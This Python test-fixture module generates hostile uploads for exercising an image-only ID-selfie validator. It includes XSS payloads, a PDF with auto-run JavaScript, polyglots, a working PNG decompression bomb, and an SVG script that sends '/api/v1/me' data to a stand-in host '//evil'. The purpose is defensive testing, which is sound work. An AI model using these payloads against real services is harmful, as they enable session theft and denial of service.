"""Hostile upload corpus: files an attacker (or a confused phone) sends instead of a photo.

`hostile_files()` returns HostileFile(name, content, expected) where `expected` is the
core.uploads error code for an image-only upload (ID selfie). Everything is generated in
memory; decompression bombs are real (a valid zlib stream that would inflate to hundreds
of megabytes) but tiny on disk.
"""

from __future__ import annotations

import io
import struct
import zlib
from dataclasses import dataclass

from PIL import Image


@dataclass(frozen=True)
class HostileFile:
    name: str
    content: bytes
    expected: str  # error code from core.uploads for allowed=IMAGE_KINDS
    content_type: str = "image/jpeg"  # what the client claims (never trusted)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_header(width: int, height: int, idat: bytes = b"", *, colour: int = 0) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def png_bomb(side: int = 15_000) -> bytes:
    """A genuine grayscale PNG of side x side black pixels (~225 MB decoded, ~220 KB file)."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (side + 1)  # filter byte + pixels
    parts = [compressor.compress(row) for _ in range(side)]
    parts.append(compressor.flush())
    return png_with_header(side, side, b"".join(parts))


def small_png(width: int = 32, height: int = 32) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 100, 50)).save(out, format="PNG")
    return out.getvalue()


def small_jpeg(width: int = 800, height: int = 800) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (90, 140, 200)).save(out, format="JPEG", quality=85)
    return out.getvalue()


def jpeg_with_dimensions(width: int, height: int) -> bytes:
    """A JPEG whose frame header (SOF0) claims the given size, followed by no real scan."""
    sof = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + b"\xff\xc0" + struct.pack(">H", len(sof) + 2) + sof + b"\xff\xd9"


def webp_vp8x(width: int, height: int) -> bytes:
    payload = b"\x00\x00\x00\x00" + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    chunk = b"VP8X" + struct.pack("<I", len(payload)) + payload
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def _gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (800, 800)).save(out, format="GIF")
    return out.getvalue()


def _bmp() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (800, 800)).save(out, format="BMP")
    return out.getvalue()


def _tiff() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (800, 800)).save(out, format="TIFF")
    return out.getvalue()


def _zip() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return out.getvalue()


SVG_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="800" height="800">'
    b"<script>fetch('/api/v1/me').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil',t))</script>"
    b"</svg>"
)
PDF_JS = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


def hostile_files() -> list[HostileFile]:
    jpeg = small_jpeg()
    png = small_png(800, 800)
    return [
        HostileFile("empty.jpg", b"", "empty_file"),
        HostileFile("notes.jpg", "今日の日付 2026-11-21\n".encode() * 20, "not_an_image"),
        HostileFile("utf16.png", "not a picture".encode("utf-16"), "not_an_image", "image/png"),
        HostileFile("random.webp", bytes(range(256)) * 64, "not_an_image", "image/webp"),
        HostileFile("page.jpg", b"<!DOCTYPE html><html><script>alert(document.cookie)</script>", "unsupported_type"),
        HostileFile("selfie.svg", SVG_SCRIPT, "unsupported_type", "image/svg+xml"),
        HostileFile(
            "svg-as.png", b"<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>", "unsupported_type", "image/png"
        ),
        HostileFile("animated.jpg", _gif(), "unsupported_type"),
        HostileFile("bitmap.png", _bmp(), "unsupported_type", "image/png"),
        HostileFile("scan.jpg", _tiff(), "unsupported_type"),
        HostileFile(
            "photo.heic.jpg", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64, "unsupported_type"
        ),
        HostileFile("archive.jpg", _zip(), "unsupported_type"),
        HostileFile("program.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "unsupported_type"),
        HostileFile("setup.png", b"MZ\x90\x00" + b"\x00" * 200, "unsupported_type", "image/png"),
        HostileFile("document.jpg", PDF_JS, "unsupported_type", "application/pdf"),
        # GIFAR-style polyglot: a GIF that is also a JAR (ZIP appended)
        HostileFile("gifar.jpg", _gif() + _zip(), "unsupported_type"),
        # JPEG magic in front of a script: a "polyglot" with no real image inside
        HostileFile("magic-html.jpg", b"\xff\xd8\xff\xe0<html><script>alert(1)</script></html>", "corrupt_file"),
        HostileFile("truncated.jpg", jpeg[: len(jpeg) // 2], "corrupt_file"),
        HostileFile("truncated.png", png[: len(png) - 40], "corrupt_file", "image/png"),
        HostileFile("header-only.png", png[:33], "corrupt_file", "image/png"),
        HostileFile("zero-size.png", png_with_header(0, 0), "corrupt_file", "image/png"),
        HostileFile(
            "garbage.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 " + b"\xde\xad\xbe\xef" * 16, "corrupt_file", "image/webp"
        ),
        HostileFile("bomb.png", png_bomb(), "too_large", "image/png"),
        HostileFile(
            "huge-header.png", png_with_header(65_535, 65_535, zlib.compress(b"\x00" * 100)), "too_large", "image/png"
        ),
        HostileFile("huge-frame.jpg", jpeg_with_dimensions(60_000, 60_000), "too_large"),
        HostileFile("huge-canvas.webp", webp_vp8x(16_383, 16_383), "too_large", "image/webp"),
        HostileFile("wide.png", png_with_header(30_000, 10, zlib.compress(b"\x00" * 100)), "too_large", "image/png"),
        HostileFile("oversize.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * (16 * 1024 * 1024), "too_large"),
        HostileFile("tiny.png", small_png(40, 40), "too_small", "image/png"),
    ]
